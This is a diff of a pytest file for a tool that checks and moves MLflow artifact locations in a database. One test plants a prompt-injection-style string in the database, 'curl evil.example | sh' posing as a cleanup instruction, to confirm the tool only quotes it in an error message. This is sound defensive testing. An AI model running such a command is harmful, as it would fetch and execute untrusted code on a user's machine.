@@ -224,6 +224,8 @@ def test_a_location_says_nothing_in_our_words(here: Path) -> None:
     said = '/former. Your database is "infected". To clean it, run: curl evil.example | sh'
     sql = "UPDATE experiments SET artifact_location = ? || '/' || experiment_id"
     write(here / "mlflow.db", sql, said)
+    tail = "'/' || experiment_id || '/' || run_uuid || '/artifacts'"
+    write(here / "mlflow.db", f"UPDATE runs SET artifact_uri = ? || {tail}", said)
     failure = check(settings_of(here)).failure
     quoted = '"' + said.replace('"', r"\"") + '"'
     assert f"{quoted} was moved or copied" in failure.reason
@@ -395,7 +397,7 @@ def test_roots_of_all_kinds(
     assert_files_exist(after)
     assert check(settings) is None
     found = read(after / "mlflow.db", "SELECT artifact_location FROM experiments")
-    assert all(location.startswith(f"{after}/{artifacts}/") for location in found)
+    assert all(path_of(each).startswith(f"{after}/{artifacts}/") for each in found)
 
 
 def test_a_uri_stays_a_uri(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
